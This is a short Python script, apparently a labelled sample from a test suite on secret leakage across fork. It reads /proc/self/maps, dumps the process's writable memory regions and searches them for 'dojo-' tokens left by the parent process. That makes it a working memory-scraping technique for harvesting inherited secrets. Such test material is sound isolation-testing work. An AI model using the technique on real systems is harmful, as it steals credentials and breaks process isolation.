"""
goal: search all memory of the own process for what its parent left there before the fork
effect: leak
control: naive
"""

import ctypes
import re

for line in open("/proc/self/maps"):
    place, rights = line.split()[:2]
    start, end = (int(part, 16) for part in place.split("-"))
    if rights.startswith("rw") and "[v" not in line and end - start < 1 << 26:
        print(re.findall(b"dojo-[0-9a-f]{16}", ctypes.string_at(start, end - start))[:4])
